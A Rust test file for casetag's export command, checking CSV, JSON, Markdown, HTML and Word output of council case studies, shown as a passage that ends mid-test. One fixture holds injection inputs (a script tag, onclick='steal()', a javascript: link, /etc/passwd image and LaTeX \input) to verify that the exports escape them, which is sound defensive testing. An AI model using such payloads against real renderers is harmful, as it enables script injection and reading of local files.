//! `casetag export`: CSV, JSON and the printed pack, against golden files and
//! read back field by field; skipping of invalid and changed records.
//!
//! Golden files live in `tests/golden/`. To accept a deliberate change, run
//! `UPDATE_GOLDEN=1 cargo test --test export` (ignored when `CI` is set) and
//! read the diff.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // a failed test may panic

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use casetag::batch::Batch;
use casetag::export::{
    self, CaseStudy, ExportOptions, Format, PackText, collect, export_for_ui, to_csv, to_pack,
};
use casetag::record::{Decision, sha256_hex};
use casetag::taxonomy::Taxonomy;

// ---------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------

/// Writes a submission and, when `record` is given, its record (the TOML
/// lines after `submission` and `submission_sha256`, which are filled in).
fn write_case(dir: &Path, name: &str, body: &str, record: Option<&str>) {
    fs::write(dir.join(name), body).expect("write submission");
    if let Some(fields) = record {
        write_record(dir, name, &sha256_hex(body.as_bytes()), fields);
    }
}

fn write_record(dir: &Path, name: &str, sha: &str, fields: &str) {
    let stem = name.rsplit_once('.').map_or(name, |(s, _)| s);
    let text = format!("submission = {name:?}\nsubmission_sha256 = {sha:?}\n{fields}");
    fs::write(dir.join(format!("{stem}.review.toml")), text).expect("write record");
}

const ALLOTMENTS: &str = r#"+++
title = "Growing together: \"Allotments, not car parks\""
lead_member = "Oldham Council"
participating_members = ["Oldham Council", "Rochdale Metropolitan Borough Council", "Oldham Food Network"]
year = 2020
status = "Policy Labs"
contact = "food@oldham.example"
+++
# Growing together

Oldham Council turned three disused car parks into *community allotments* run by
residents. Working with the [Oldham Food Network](https://example.org/ofn), the
council offered plots first to the 120 households at the top of the housing
waiting list. Volunteers teach growing skills every Saturday morning, and the
scheme now supplies fresh vegetables to two food banks. A tenants' co-operative
manages the plots and decides who joins.

## What we learnt

Residents want a say in how the land is used, not just a plot.
"#;

const ALLOTMENTS_RECORD: &str = r#"decision = "approve"
primary_category = "community"
categories = ["health-social-care", "poverty"]
principles = ["co-production", "innovation"]
values = ["solidarity", "democracy", "caring-for-others"]
note = "Lovely photos; use the one of the Saturday class."
reviewer = "nhuckerby"
reviewed_at = "2026-11-22T10:15:00Z"
"#;

const ENERGY: &str = r#"+++
title = "Solar schools: 40 roofs & counting"
lead_member = "Kirklees Council"
year = 2018
status = "Policy Prototypes"
+++
Kirklees Council helped parents, staff and neighbours set up a community energy
co-operative that has put solar panels on forty school roofs since 2018. Members
buy shares from £50; the schools buy the electricity at a discount and the surplus
pays for energy lessons in every classroom.
"#;

const ENERGY_RECORD: &str = r#"decision = "approve"
primary_category = "climate-change-environment"
categories = ["education-training"]
principles = ["enterprise-social-economy", "innovation"]
values = ["self-help", "social-responsibility", "openness"]
note = "Check the \"forty roofs\" figure, then publish.\nSecond line of the note."
reviewer = "nhuckerby"
reviewed_at = "2026-11-22T10:40:00Z"
"#;

const HOUSING: &str = r#"+++
title = "Tenant-led repairs"
lead_member = "Plymouth City Council"
participating_members = ["Devon Tenants Forum"]
year = 2019
status = "Policy Labs"
+++
Tenants on two estates now choose and check the contractors who repair their homes.
"#;

const HOUSING_RECORD: &str = r#"decision = "needs-info"
primary_category = "housing"
principles = ["co-production"]
note = "Please send the evaluation report."
reviewer = "nhuckerby"
reviewed_at = "2026-11-22T11:02:00Z"
"#;

const PRESS: &str = "Council wins award for its new website\n\nThe council today announced that its website has won a regional award.\n";

const PRESS_RECORD: &str = r#"decision = "decline"
note = "A press release, not a case study."
reviewer = "nhuckerby"
reviewed_at = "2026-11-22T11:05:00Z"
"#;

/// Two approved, one needs-info, one declined, one not started.
fn fixed_batch() -> tempfile::TempDir {
    let tmp = tempfile::tempdir().expect("tempdir");
    let d = tmp.path();
    write_case(d, "allotments.md", ALLOTMENTS, Some(ALLOTMENTS_RECORD));
    write_case(d, "energy.md", ENERGY, Some(ENERGY_RECORD));
    write_case(d, "housing.md", HOUSING, Some(HOUSING_RECORD));
    write_case(d, "press-release.txt", PRESS, Some(PRESS_RECORD));
    write_case(
        d,
        "zz-draft.md",
        "+++\ntitle = \"Not started\"\n+++\nDraft.\n",
        None,
    );
    tmp
}

fn opts(format: Format) -> ExportOptions {
    ExportOptions {
        format,
        ..ExportOptions::default()
    }
}

struct Run {
    code: i32,
    out: String,
    err: String,
}

fn run(dir: &Path, opts: &ExportOptions) -> Run {
    let (mut out, mut err) = (Vec::new(), Vec::new());
    let code = casetag::cli::export(dir, &Taxonomy::builtin(), opts, &mut out, &mut err);
    Run {
        code,
        out: String::from_utf8(out).expect("utf8 stdout"),
        err: String::from_utf8(err).expect("utf8 stderr"),
    }
}

fn golden_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden")
        .join(name)
}

/// Compares `actual` with the golden file byte for byte, or rewrites the file
/// when `UPDATE_GOLDEN=1` (never on CI).
fn assert_golden(name: &str, actual: &str) {
    let path = golden_path(name);
    let update =
        std::env::var("UPDATE_GOLDEN").is_ok_and(|v| v == "1") && std::env::var_os("CI").is_none();
    if update {
        fs::create_dir_all(path.parent().expect("parent")).expect("mkdir golden");
        fs::write(&path, actual).expect("write golden");
        return;
    }
    let expected = fs::read(&path).unwrap_or_else(|e| {
        panic!(
            "{}: {e}; run `UPDATE_GOLDEN=1 cargo test --test export` to create it",
            path.display()
        )
    });
    let expected = String::from_utf8(expected).expect("golden is UTF-8");
    assert!(
        expected == actual,
        "{} differs from the output (run with UPDATE_GOLDEN=1 to accept)\n--- expected\n{expected}\n--- actual\n{actual}",
        path.display()
    );
}

fn case<'a>(entries: &'a [serde_json::Value], source: &str) -> &'a serde_json::Value {
    entries
        .iter()
        .find(|e| e["source"] == source)
        .unwrap_or_else(|| panic!("{source} not exported"))
}

// ---------------------------------------------------------------------------
// Golden files
// ---------------------------------------------------------------------------

#[test]
fn csv_matches_golden() {
    let tmp = fixed_batch();
    let r = run(tmp.path(), &opts(Format::Csv));
    assert_eq!(r.code, 0, "{}", r.err);
    assert_golden("export.csv", &r.out);
    assert_eq!(r.err, "casetag: 2 case studies exported\n");
}

#[test]
fn json_matches_golden() {
    let tmp = fixed_batch();
    let r = run(tmp.path(), &opts(Format::Json));
    assert_eq!(r.code, 0, "{}", r.err);
    // the version is in the output: keep the golden file version-free
    let version = format!("\"casetag {}\"", env!("CARGO_PKG_VERSION"));
    assert!(r.out.contains(&version), "{}", r.out);
    assert_golden(
        "export.json",
        &r.out.replace(&version, "\"casetag VERSION\""),
    );
}

#[test]
fn pack_matches_golden() {
    let tmp = fixed_batch();
    let r = run(tmp.path(), &opts(Format::Pack));
    assert_eq!(r.code, 0, "{}", r.err);
    assert_golden("pack.md", &r.out);
    let mut o = opts(Format::Pack);
    o.pack_text = PackText::Excerpt;
    let r = run(tmp.path(), &o);
    assert_eq!(r.code, 0, "{}", r.err);
    assert_golden("pack-excerpt.md", &r.out);
}

/// The Word pack's `word/document.xml`, read from the file the command
/// wrote (`--format docx` needs `-o`).
fn docx_document(dir: &Path, mut o: ExportOptions) -> (Run, String) {
    let out = tempfile::tempdir().expect("tempdir");
    let path = out.path().join("pack.docx");
    o.output = Some(path.clone());
    let r = run(dir, &o);
    let bytes = fs::read(&path).unwrap_or_default();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a zip");
    let mut xml = String::new();
    std::io::Read::read_to_string(
        &mut zip.by_name("word/document.xml").expect("word/document.xml"),
        &mut xml,
    )
    .expect("read");
    (r, xml)
}

/// What stands in the HTML goldens for the page's style sheet: the
/// constant the page is checked to hold, once, by [`without_style`].
const STYLE_MARKER: &str = "<style>/* export::PACK_STYLE */</style>";

/// The HTML page with its style sheet, checked to be exactly the pack's,
/// replaced by [`STYLE_MARKER`].
fn without_style(page: &str) -> String {
    let style = format!("<style>{}</style>", export::PACK_STYLE);
    assert_eq!(
        page.matches("<style>").count(),
        1,
        "one style sheet:\n{page}"
    );
    assert!(page.contains(&style), "not the pack's style sheet:\n{page}");
    page.replacen(&style, STYLE_MARKER, 1)
}

/// The HTML page without its case studies' texts (what follows their fields
/// in each `<article>`), and those texts.
fn without_case_texts(page: &str) -> (String, Vec<&str>) {
    let (mut frame, mut texts, mut rest) = (String::new(), Vec::new(), page);
    while let Some(at) = rest.find("</dl>\n") {
        let (fields, after) = rest.split_at(at + "</dl>\n".len());
        let end = after.find("</article>").expect("the article's end");
        frame.push_str(fields);
        texts.push(&after[..end]);
        rest = &after[end..];
    }
    frame.push_str(rest);
    (frame, texts)
}

#[test]
fn html_pack_matches_golden() {
    let tmp = fixed_batch();
    let r = run(tmp.path(), &opts(Format::Html));
    assert_eq!(r.code, 0, "{}", r.err);
    let page = without_style(&r.out);
    assert_golden("pack.html", &page);
    // the excerpt pack differs from it in the case studies' texts alone:
    // the short one whole, the other cut to its excerpt
    let mut o = opts(Format::Html);
    o.pack_text = PackText::Excerpt;
    let r = run(tmp.path(), &o);
    assert_eq!(r.code, 0, "{}", r.err);
    let excerpt_page = without_style(&r.out);
    let (frame, texts) = without_case_texts(&page);
    let (excerpt_frame, excerpt_texts) = without_case_texts(&excerpt_page);
    assert_eq!(excerpt_frame, frame);
    assert_eq!(texts.len(), 2, "{page}");
    assert_eq!(
        excerpt_texts,
        [
            texts[0],
            "<p>Oldham Council turned three disused car parks into community allotments run by \
             residents. Working with the Oldham Food Network, the council offered plots first to \
             the 120 households at the top of the housing waiting list. Volunteers teach growing \
             skills every Saturday morning, and the scheme now supplies fresh vegetables to two \
             food banks. …</p>\n",
        ]
    );
}

#[test]
fn word_pack_matches_golden() {
    let tmp = fixed_batch();
    let (r, xml) = docx_document(tmp.path(), opts(Format::Docx));
    assert_eq!(r.code, 0, "{}", r.err);
    assert!(
        r.out.is_empty(),
        "a Word file is never written to stdout unasked"
    );
    assert_golden("pack-document.xml", &xml);
    let mut o = opts(Format::Docx);
    o.pack_text = PackText::Excerpt;
    let (r, xml) = docx_document(tmp.path(), o);
    assert_eq!(r.code, 0, "{}", r.err);
    assert_golden("pack-excerpt-document.xml", &xml);
}

/// A body that tries everything: raw HTML and a script, pandoc's raw blocks
/// and attributes, headings of every level, a fenced block holding a fence,
/// images of local files, links of every scheme, lists and quotes.
const HOSTILE_BODY: &str = r#"+++
title = "Hostile body"
lead_member = "Evil Council"
+++
# Hostile body

<script>alert("pack")</script>

<div class="banner" onclick="steal()">
Inside a <em>div</em>
</div>

# Level one
## Level two
### Level three
#### Level four
##### Level five
###### Level six {#id .class}

Setext heading
==============

Text with <b>inline HTML</b>, `code`{=html}, $x^2$, [@cite], ^[a note], \begin{document}
and ![the password file](/etc/passwd) and [a script](javascript:alert(1)), [mail](mailto:a@b.org)
and [a page](https://example.org/a_(b) "title").

```{=latex}
\input{/etc/passwd}
```

````markdown
```
a fence inside
```
````

1. first
2. second
   - nested *emphasis*
   - nested **strong**

> a quote
>
> > nested quote with <i>html</i>

---

| not | a table |
|-----|---------|
| cell | cell |

Last line: 1. not a list
+ a real list after all
"#;

#[test]
fn a_hostile_body_renders_as_escaped_pack_markdown() {
    let tmp = tempfile::tempdir().expect("tempdir");
    write_case(
        tmp.path(),
        "hostile-body.md",
        HOSTILE_BODY,
        Some(
            "decision = \"approve\"\nprimary_category = \"community\"\nprinciples = [\"innovation\"]\nvalues = [\"solidarity\", \"democracy\", \"equity\"]\n",
        ),
    );
    let mut o = opts(Format::Pack);
    let full = run(tmp.path(), &o);
    assert_eq!(full.code, 0, "{}", full.err);
    assert_golden("pack-hostile.md", &full.out);
    // nothing raw survives: every `<` is escaped, no raw-block fence, no
    // image, no link but the safe ones
    assert!(!full.out.replace("\\<", "").contains('<'), "{}", full.out);
    assert!(!full.out.contains("{=latex}"), "{}", full.out);
    assert!(!full.out.contains("!["), "{}", full.out);
    assert!(!full.out.contains("](javascript"), "{}", full.out);
    assert!(full.out.contains("[mail](mailto:a@b.org)"), "{}", full.out);
    // headings below the case study's `###`; its repeated title left out
    let headings: Vec<&str> = full.out.lines().filter(|l| l.starts_with('#')).collect();
    assert_eq!(
        headings,
        [
            "# CCIN Case Studies Pack",
            "## Community",
            "### Hostile body",
            "#### Level one",
            "##### Level two",
            "###### Level three",
            "###### Level four",
            "###### Level five",
            "###### Level six \\{\\#id .class\\}",
            "#### Setext heading",
        ]
    );
    o.pack_text = PackText::Excerpt;
    let short = run(tmp.path(), &o);
    assert_eq!(short.code, 0, "{}", short.err);
    assert_golden("pack-hostile-excerpt.md", &short.out);
    // one plain paragraph: no heading of the body, nothing raw
    assert!(!short.out.contains("####"), "{}", short.out);
    assert!(!short.out.replace("\\<", "").contains('<'), "{}", short.out);
}

fn hostile_batch() -> tempfile::TempDir {
    let tmp = tempfile::tempdir().expect("tempdir");
    write_case(
        tmp.path(),
        "hostile-body.md",
        &HOSTILE_BODY.replace("Text with", "Text\u{202e} with\u{200b}\u{1b}[31m"),
        Some(
            "decision = \"approve\"\nprimary_category = \"community\"\nprinciples = [\"innovation\"]\nvalues = [\"solidarity\", \"democracy\", \"equity\"]\n",
        ),
    );
    tmp
}

#[test]
fn a_hostile_body_is_inert_in_the_html_pack() {
    let tmp = hostile_batch();
    let r = run(tmp.path(), &opts(Format::Html));
    assert_eq!(r.code, 0, "{}", r.err);
    let html = &r.out;
    let body = html
        .split("</style>")
        .nth(1)
        .expect("a body after the style");
    // what the text became, in the page's <main>; the page around it is
    // that of any pack (`html_pack_matches_golden`)
    let main = &body[body.find("<main>").expect("<main>")..];
    assert_golden("pack-hostile.html", main);
    without_style(html);
    assert!(
        body.contains("<li><a href=\"#case-hostile-body\">Hostile body</a></li>"),
        "{body}"
    );
    // raw HTML is text: its `<` and quotes escaped, so no element or
    // attribute of its own
    for bad in [
        "<script",
        "<div",
        "<b>",
        "<i>",
        "<img",
        "href=\"javascript",
        "onclick=\"",
        "{=latex}",
    ] {
        assert!(!body.contains(bad), "{bad} in\n{body}");
    }
    for c in ['\u{202e}', '\u{200b}', '\u{1b}'] {
        assert!(!html.contains(c), "{c:?} in the page");
    }
    // the only addresses are the safe ones
    let hrefs: Vec<&str> = body
        .split("href=\"")
        .skip(1)
        .filter_map(|h| h.split('"').next())
        .collect();
    assert!(
        hrefs
            .iter()
            .all(|h| h.starts_with('#') || h.starts_with("https://") || h.starts_with("mailto:")),
        "{hrefs:?}"
    );
    assert!(hrefs.contains(&"mailto:a@b.org"), "{hrefs:?}");
}

#[test]
fn a_hostile_body_is_inert_in_the_word_pack() {
    let tmp = hostile_batch();
    let (r, xml) = docx_document(tmp.path(), opts(Format::Docx));
    assert_eq!(r.code, 0, "{}", r.err);
    assert_golden("pack-hostile-document.xml", &xml);
    for c in ['\u{202e}', '\u{200b}', '\u{1b}'] {
        assert!(!xml.contains(c), "{c:?} in the document");
    }
    // every `<` of the text is escaped: the only elements are Word's own
    let tags: std::collections::BTreeSet<&str> = xml
        .split('<')
        .skip(1)
        .filter_map(|t| t.split([' ', '>', '/']).next())
        .filter(|t| !t.is_empty())
        .collect();
    assert!(
        tags.iter().all(|t| t.starts_with("w:") || *t == "?xml"),
        "{tags:?}"
    );
}

/// The headings of a pack as (level, text), from each format: the title
/// is level 1.
fn headings_md(md: &str) -> Vec<(usize, String)> {
    md.lines()
        .filter(|l| l.starts_with('#'))
        .map(|l| {
            let level = l.chars().take_while(|&c| c == '#').count();
            let text = l.get(level..).unwrap_or("").trim();
            // the Markdown escapes: a backslash before punctuation
            let mut out = String::new();
            let mut chars = text.chars().peekable();
            while let Some(c) = chars.next() {
                if c == '\\' && chars.peek().is_some_and(|n| n.is_ascii_punctuation()) {
                    continue;
                }
                out.push(c);
            }
            (level, out)
        })
        .collect()
}

fn unescape(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&apos;", "'")
        .replace("&amp;", "&")
}

/// Markup removed, entities read.
fn strip_tags(s: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    for c in s.chars() {
        match c {
            '<' => in_tag = true,
            '>' => in_tag = false,
            c if !in_tag => out.push(c),
            _ => {}
        }
    }
    unescape(&out)
}

fn headings_html(html: &str) -> Vec<(usize, String)> {
    let main = html.split("<main>").nth(1).unwrap_or("");
    let mut out = vec![(1, "CCIN Case Studies Pack".to_string())];
    assert_eq!(html.matches("<h1").count(), 1, "one h1");
    for part in main.split("<h").skip(1) {
        let Some(level) = part.chars().next().and_then(|c| c.to_digit(10)) else {
            continue;
        };
        let inner = part.split_once('>').map_or("", |(_, r)| r);
        let inner = inner.split(&format!("</h{level}>")).next().unwrap_or("");
        out.push((level as usize, strip_tags(inner)));
    }
    out
}

fn headings_docx(xml: &str) -> Vec<(usize, String)> {
    xml.lines()
        .filter_map(|p| {
            let style = p.split("<w:pStyle w:val=\"").nth(1)?.split('"').next()?;
            let level = match style {
                "Title" => 1,
                s => s.strip_prefix("Heading")?.parse::<usize>().ok()? + 1,
            };
            let text: String = p
                .split("<w:t xml:space=\"preserve\">")
                .skip(1)
                .filter_map(|t| t.split("</w:t>").next())
                .collect();
            Some((level, unescape(&text)))
        })
        .collect()
}

#[test]
fn the_three_packs_carry_the_same_headings_in_the_same_order() {
    for (tmp, decisions) in [
        (fixed_batch(), vec![Decision::Approve, Decision::NeedsInfo]),
        (hostile_batch(), vec![Decision::Approve]),
    ] {
        for text in [PackText::Full, PackText::Excerpt] {
            let with = |format| ExportOptions {
                format,
                decisions: decisions.clone(),
                pack_text: text,
                ..ExportOptions::default()
            };
            let md = run(tmp.path(), &with(Format::Pack));
            let html = run(tmp.path(), &with(Format::Html));
            let (docx, xml) = docx_document(tmp.path(), with(Format::Docx));
            for r in [&md, &html, &docx] {
                assert_eq!(r.code, 0, "{}", r.err);
            }
            let from_md = headings_md(&md.out);
            assert!(from_md.len() >= 3, "{from_md:?}");
            assert_eq!(headings_html(&html.out), from_md);
            assert_eq!(headings_docx(&xml), from_md);
            // no level is skipped, in any of them
            for pair in from_md.windows(2) {
                assert!(pair[1].0 <= pair[0].0 + 1, "{pair:?} skips a level");
            }
            // the same case studies were selected and skipped
            let count = |r: &Run| {
                let last = r.err.lines().last().unwrap_or("").to_string();
                last.split(" exported").next().unwrap_or("").to_string()
            };
            assert!(count(&md).contains(" case stud"), "{}", md.err);
            assert_eq!(count(&html), count(&md));
            assert_eq!(count(&docx), count(&md));
        }
    }
}

#[test]
fn the_fields_are_the_same_in_the_three_packs() {
    let tmp = fixed_batch();
    let md = run(tmp.path(), &opts(Format::Pack)).out;
    let html = run(tmp.path(), &opts(Format::Html)).out;
    let (_, xml) = docx_document(tmp.path(), opts(Format::Docx));
    let from_md: Vec<String> = md
        .lines()
        .filter_map(|l| l.strip_prefix("- **"))
        .map(|l| l.replacen(":**", ":", 1).replace('\\', ""))
        .collect();
    let from_html: Vec<String> = html
        .lines()
        .filter(|l| l.starts_with("<dt>"))
        .map(|l| strip_tags(&l.replacen("</dt>", ": ", 1)))
        .collect();
    let from_docx: Vec<String> = xml
        .lines()
        .filter(|l| l.contains("<w:pStyle w:val=\"NoSpacing\"/>"))
        .map(strip_tags)
        .collect();
    assert_eq!(from_md.len(), 13, "{from_md:?}");
    assert_eq!(from_html, from_md);
    assert_eq!(from_docx, from_md);
}

#[test]
fn a_word_pack_is_never_written_to_a_terminal_unasked() {
    let tmp = fixed_batch();
    let r = run(tmp.path(), &opts(Format::Docx));
    assert_eq!(r.code, 2);
    assert!(r.out.is_empty());
    assert!(r.err.contains("-o FILE"), "{}", r.err);
    // `-o -` asks for it
    let mut o = opts(Format::Docx);
    o.output = Some(PathBuf::from("-"));
    let (mut out, mut err) = (Vec::new(), Vec::new());
    let code = casetag::cli::export(tmp.path(), &Taxonomy::builtin(), &o, &mut out, &mut err);
    assert_eq!(code, 0);
    assert!(out.starts_with(b"PK\x03\x04"), "a zip on stdout");
    // the same bytes each time: the zip's dates are fixed
    let again = export::to_docx(
        &collect(
            &Batch::load(tmp.path(), &Taxonomy::builtin()).expect("batch"),
            &Taxonomy::builtin(),
            &[Decision::Approve],
            false,
        )
        .0,
        &Taxonomy::builtin(),
        PackText::Full,
    )
    .expect("docx");
    assert_eq!(out, again);
}

// ---------------------------------------------------------------------------
// Read back
// ---------------------------------------------------------------------------

/// The documented fields of a case study, in order, as the module docs and
/// the README list them: the JSON keys, and the CSV columns once `values` is
/// spread over `value_1`..`value_3`.
const FIELDS: &str = "title, lead_member, participating_members, year, status, source, \
                      decision, primary_category, categories, principles, values, note, \
                      reviewer, reviewed_at, excerpt, contact";

fn fields() -> impl Iterator<Item = &'static str> {
    FIELDS.split(", ")
}

/// The CSV header: [`FIELDS`] with three value columns, `note` only with it.
fn csv_header(note: bool) -> Vec<String> {
    fields()
        .filter(|f| note || *f != "note")
        .flat_map(|f| match f {
            "values" => (1..=3).map(|i| format!("value_{i}")).collect(),
            f => vec![f.to_string()],
        })
        .collect()
}

/// One case study as CSV cells by column name (lists joined with `"; "`, a
/// missing value empty).
type Cells = BTreeMap<String, String>;

fn csv_cells(out: &str) -> (Vec<String>, Vec<Cells>) {
    let mut rd = csv::Reader::from_reader(out.as_bytes());
    let header: Vec<String> = rd
        .headers()
        .expect("headers")
        .iter()
        .map(String::from)
        .collect();
    let rows = rd
        .records()
        .map(|r| {
            let r = r.expect("record");
            header
                .iter()
                .cloned()
                .zip(r.iter().map(String::from))
                .collect()
        })
        .collect();
    (header, rows)
}

/// The JSON case studies as the same cells, checking each value's type on
/// the way: text a non-empty string or null, lists arrays of strings, the
/// year an integer or null.
fn json_cells(out: &str) -> Vec<Cells> {
    let v: serde_json::Value = serde_json::from_str(out).expect("valid JSON");
    let list = v["case_studies"].as_array().expect("array");
    assert_eq!(v["count"], list.len());
    list.iter()
        .map(|case| {
            let obj = case.as_object().expect("object");
            let mut cells = Cells::new();
            for (key, value) in obj {
                let text = |v: &serde_json::Value| match v {
                    serde_json::Value::Null => String::new(),
                    serde_json::Value::String(s) if !s.is_empty() => s.clone(),
                    other => panic!("{key}: {other} is not a non-empty string or null"),
                };
                let list: Vec<String> = match value.as_array() {
                    Some(a) => a.iter().map(text).collect(),
                    None => Vec::new(),
                };
                match key.as_str() {
                    "participating_members" | "categories" | "principles" => {
                        assert!(value.is_array(), "{key}: {value}");
                        cells.insert(key.clone(), list.join("; "));
                    }
                    "values" => {
                        for i in 0..3 {
                            let v = list.get(i).cloned().unwrap_or_default();
                            cells.insert(format!("value_{}", i + 1), v);
                        }
                    }
                    "year" => {
                        assert!(value.is_null() || value.is_i64(), "year: {value}");
                        cells.insert(
                            key.clone(),
                            value.as_i64().map(|y| y.to_string()).unwrap_or_default(),
                        );
                    }
                    _ => {
                        cells.insert(key.clone(), text(value));
                    }
                }
            }
            cells
        })
        .collect()
}

/// What the fixed batch exports with every decision and the note, by row.
const FIXED_ROWS: [&[(&str, &str)]; 4] = [
    &[
        ("title", "Growing together: \"Allotments, not car parks\""),
        ("lead_member", "Oldham Council"),
        (
            "participating_members",
            "Oldham Council; Rochdale Metropolitan Borough Council; Oldham Food Network",
        ),
        ("year", "2020"),
        ("status", "Policy Labs"),
        ("source", "allotments.md"),
        ("decision", "approve"),
        ("primary_category", "Community"),
        ("categories", "Health & Social Care; Poverty"),
        ("principles", "Co-production; Innovation"),
        ("value_1", "Solidarity"),
        ("value_2", "Democracy"),
        ("value_3", "Caring for others"),
        ("note", "Lovely photos; use the one of the Saturday class."),
        ("reviewer", "nhuckerby"),
        ("reviewed_at", "2026-11-22T10:15:00Z"),
        ("contact", "food@oldham.example"),
    ],
    &[
        ("title", "Solar schools: 40 roofs & counting"),
        ("participating_members", ""),
        ("source", "energy.md"),
        ("categories", "Education & Training"),
        (
            "note",
            "Check the \"forty roofs\" figure, then publish.\nSecond line of the note.",
        ),
    ],
    &[
        ("source", "housing.md"),
        ("decision", "needs-info"),
        ("primary_category", "Housing"),
        ("value_1", ""),
        ("note", "Please send the evaluation report."),
    ],
    &[
        ("title", "Council wins award for its new website"),
        ("lead_member", ""),
        ("source", "press-release.txt"),
        ("decision", "decline"),
        ("primary_category", ""),
        ("year", ""),
        ("value_1", ""),
    ],
];

/// The rows of the fixed batch (every decision, with the note) against
/// [`FIXED_ROWS`]: file-name order, the not-started one left out.
fn check_fixed_rows(rows: &[Cells]) {
    assert_eq!(rows.len(), FIXED_ROWS.len(), "{rows:#?}");
    for (row, expected) in rows.iter().zip(FIXED_ROWS) {
        for (column, value) in expected {
            assert_eq!(
                row.get(*column).map(String::as_str),
                Some(*value),
                "{column}"
            );
        }
    }
    let excerpt = &rows[0]["excerpt"];
    assert!(
        excerpt.starts_with(
            "Oldham Council turned three disused car parks into community allotments run by residents."
        ),
        "heading and emphasis stripped: {excerpt}"
    );
    assert!(excerpt.ends_with('…'), "cut: {excerpt}");
    assert!(!rows[1]["excerpt"].ends_with('…'), "a short body is whole");
}

fn every_decision_with_note(format: Format) -> Run {
    let tmp = fixed_batch();
    let mut o = opts(format);
    o.decisions = Decision::ALL.to_vec();
    o.include_note = true;
    let r = run(tmp.path(), &o);
    assert_eq!(r.code, 0, "{}", r.err);
    r
}

#[test]
fn csv_reads_back_field_by_field() {
    let r = every_decision_with_note(Format::Csv);
    assert!(r.out.ends_with("\r\n"), "RFC 4180 line ends");
    let (header, rows) = csv_cells(&r.out);
    assert_eq!(header, csv_header(true));
    check_fixed_rows(&rows);
}

#[test]
fn csv_has_no_note_column_without_note() {
    let tmp = fixed_batch();
    let r = run(tmp.path(), &opts(Format::Csv));
    let (header, _) = csv_cells(&r.out);
    assert_eq!(header, csv_header(false));
    assert!(!r.out.contains("Lovely photos"));
}

#[test]
fn json_reads_back_field_by_field() {
    let r = every_decision_with_note(Format::Json);
    let v: serde_json::Value = serde_json::from_str(&r.out).expect("valid JSON");
    assert_eq!(
        v["generated_by"],
        format!("casetag {}", env!("CARGO_PKG_VERSION"))
    );
    let rows = json_cells(&r.out);
    check_fixed_rows(&rows);
    // the same cells as the CSV, and every documented key, no other
    assert_eq!(
        rows,
        csv_cells(&every_decision_with_note(Format::Csv).out).1
    );
    let mut keys: Vec<&str> = v["case_studies"][0]
        .as_object()
        .expect("object")
        .keys()
        .map(String::as_str)
        .collect();
    let mut expected: Vec<&str> = fields().collect();
    keys.sort_unstable();
    expected.sort_unstable();
    assert_eq!(keys, expected);

    // without --note there is no note key at all
    let tmp = fixed_batch();
    let r = run(tmp.path(), &opts(Format::Json));
    let v: serde_json::Value = serde_json::from_str(&r.out).expect("valid JSON");
    for c in v["case_studies"].as_array().expect("array") {
        assert!(c.get("note").is_none(), "{c}");
    }
}

#[test]
fn json_key_order_is_the_documented_one() {
    let r = every_decision_with_note(Format::Json);
    let positions: Vec<usize> = ["generated_by", "count", "case_studies"]
        .into_iter()
        .chain(fields())
        .map(|k| {
            let k = format!("\"{k}\"");
            r.out.find(&k).unwrap_or_else(|| panic!("{k} missing"))
        })
        .collect();
    assert!(positions.windows(2).all(|w| w[0] < w[1]), "{positions:?}");
}

// ---------------------------------------------------------------------------
// Selection, skipping and --force
// ---------------------------------------------------------------------------

/// One good approved case study, one whose record names an unknown value, one
/// whose submission changed after review, one that cannot be read.
fn troubled_batch() -> tempfile::TempDir {
    let tmp = tempfile::tempdir().expect("tempdir");
    let d = tmp.path();
    let approve = |values: &str| {
        format!(
            "decision = \"approve\"\nprimary_category = \"community\"\nprinciples = [\"innovation\"]\nvalues = {values}\nreviewer = \"nhuckerby\"\nreviewed_at = \"2026-11-22T10:15:00Z\"\n"
        )
    };
    let good_values = r#"["solidarity", "democracy", "equity"]"#;
    write_case(
        d,
        "good.md",
        "+++\ntitle = \"Good\"\n+++\nA good case study.\n",
        Some(&approve(good_values)),
    );
    write_case(
        d,
        "greedy.md",
        "+++\ntitle = \"Greedy\"\n+++\nAn unknown value.\n",
        Some(&approve(r#"["solidarity", "democracy", "greed"]"#)),
    );
    let reviewed = "+++\ntitle = \"Stale\"\n+++\nThe text as reviewed.\n";
    fs::write(
        d.join("stale.md"),
        "+++\ntitle = \"Stale\"\n+++\nThe text as it is now.\n",
    )
    .expect("write");
    write_record(
        d,
        "stale.md",
        &sha256_hex(reviewed.as_bytes()),
        &approve(good_values),
    );
    tmp
}

#[test]
fn invalid_and_stale_records_are_skipped_and_listed() {
    let tmp = troubled_batch();
    let r = run(tmp.path(), &opts(Format::Json));
    assert_eq!(r.code, 1, "stderr: {}", r.err);
    let v: serde_json::Value = serde_json::from_str(&r.out).expect("JSON");
    assert_eq!(v["count"], 1);
    assert_eq!(v["case_studies"][0]["source"], "good.md");

    let greedy: Vec<&str> = r
        .err
        .lines()
        .filter(|l| l.contains("greedy.review.toml"))
        .collect();
    assert!(!greedy.is_empty(), "{}", r.err);
    assert!(
        greedy.iter().all(|l| l.contains(": skipped: ")),
        "{}",
        r.err
    );
    assert!(greedy.iter().any(|l| l.contains("greed")), "{}", r.err);

    let stale: Vec<&str> = r
        .err
        .lines()
        .filter(|l| l.contains("stale.review.toml"))
        .collect();
    assert_eq!(stale.len(), 1, "{}", r.err);
    assert!(
        stale[0].ends_with(": skipped: stale.md changed since it was reviewed"),
        "{}",
        r.err
    );
    assert!(!r.err.contains("good."), "{}", r.err);
    assert!(r.err.contains("2 files skipped"), "{}", r.err);
}

#[test]
fn force_exports_them_with_warnings() {
    let tmp = troubled_batch();
    let mut o = opts(Format::Json);
    o.force = true;
    let r = run(tmp.path(), &o);
    assert_eq!(r.code, 0, "stderr: {}", r.err);
    let v: serde_json::Value = serde_json::from_str(&r.out).expect("JSON");
    assert_eq!(v["count"], 3);
    let list = v["case_studies"].as_array().expect("array");
    // the unknown id is shown as it is
    assert_eq!(
        case(list, "greedy.md")["values"],
        serde_json::json!(["Solidarity", "Democracy", "greed"])
    );
